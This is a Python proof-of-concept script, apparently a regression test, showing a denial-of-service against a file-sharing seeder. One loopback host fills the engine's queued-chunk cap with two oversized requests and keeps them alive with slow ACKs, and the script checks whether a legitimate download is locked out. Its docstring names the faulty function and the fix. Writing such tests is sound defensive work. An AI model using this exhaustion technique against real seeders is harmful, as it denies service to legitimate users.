"""Lock-out: two REQUESTs from one host fill MAX_QUEUED_CHUNKS.

A validated peer asks a real seeder for the whole of a big shared file
(4.5 GB, sparse: 3.2 M chunks) and for the first 800 k chunks of it again
(a second session id): 4,000,000 queued chunks, the engine's total cap.
It keeps both alive with one ACK a second per session (one chunk of
progress each, ~60 B/s sent).  Every REQUEST from any other host is then
refused "too many sessions" (ErrorCode.BUSY) — no eviction happens, since
``SessionTable.make_room`` evicts only when the session *count* is full,
never when the *chunk* budget is.  A legitimate leecher from another
loopback address fails to get a 2 MB song.

Fault: seed_engine.py, ``SessionTable.make_room`` (queued-chunk check
returns (False, None) with no eviction and no per-host share of
``MAX_QUEUED_CHUNKS``).

Fixed (branch hardseed): ``make_room`` evicts, when the chunk budget is
full, from the host holding the most chunks, as long as it holds more
than the newcomer would (as it did for the session count).  After: the
attacker holds both sessions (load 2), the leecher from 127.0.0.1 gets
the 2 MB song (exit 0, 0.1 s) and one attacker session is evicted.
Before: exit 1, "too many sessions".

Bounded: loopback only (127.0.0.31 seeder, 127.0.0.66 attacker), at most
~45 s, the seeder started here is stopped by its PID.
"""

import os
import random
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import (Client, p, run_leecher, sparse_file,  # noqa: E402
                    start_seeder, stop, verdict)

SEEDER_IP, ATTACKER_IP = "127.0.0.31", "127.0.0.66"
CAP = 4_000_000  # seed_engine.MAX_QUEUED_CHUNKS
OVERHEAD = 4096  # > 2 x seed_engine.SESSION_COST_CHUNKS: what still fits


def main() -> int:
    with tempfile.TemporaryDirectory() as folder:
        with open(os.path.join(folder, "song.mp3"), "wb") as f:
            f.write(random.Random(1).randbytes(2 * 1024 * 1024))
        sparse_file(os.path.join(folder, "big.mp3"), 4_500_000_000)
        t0 = time.monotonic()
        proc, seeder = start_seeder(SEEDER_IP, folder)
        print(f"seeder up in {time.monotonic() - t0:.1f} s (hashing 4.5 GB)")
        try:
            return attack(seeder, folder)
        finally:
            stop(proc)


def attack(seeder, folder) -> int:
    attacker = Client(ATTACKER_IP)
    token = attacker.token(seeder)
    big = next(f for f in attacker.search(seeder, "big", token))
    sent = attacker.send(p.Request(big.file_id, p.Order.SEQUENTIAL,
                                   ((0, big.chunks),), 1, token), seeder, 1)
    sent += attacker.send(p.Request(big.file_id, p.Order.SEQUENTIAL,
                                    ((0, CAP - big.chunks - OVERHEAD),),
                                    1, token),
                          seeder, 2)
    stop_keepalive = threading.Event()

    def keepalive():
        nonlocal sent
        limit = 1
        while not stop_keepalive.wait(1.0):
            limit += 1
            for sid in (1, 2):
                sent += attacker.send(p.Ack(limit), seeder, sid)
            attacker.drain()
    thread = threading.Thread(target=keepalive, daemon=True)
    thread.start()
    time.sleep(1.0)
    t0 = time.monotonic()
    with tempfile.TemporaryDirectory() as out:
        result = run_leecher("get", "song", "--seeders",
                             f"{seeder[0]}:{seeder[1]}", "-o", out,
                             "--timeout", "15", timeout=40)
    took = time.monotonic() - t0
    stop_keepalive.set()
    thread.join()
    print(f"attacker sent {sent} bytes in {took + 1:.0f} s "
          f"({sent / (took + 1):.0f} B/s)")
    print(f"legitimate leecher (127.0.0.1): exit {result.returncode} "
          f"after {took:.1f} s")
    print("  " + (result.stdout + result.stderr).strip().replace("\n", "\n  ")
          [-600:])
    locked_out = result.returncode != 0
    verdict(locked_out, "locked out")
    return 0


if __name__ == "__main__":
    sys.exit(main())
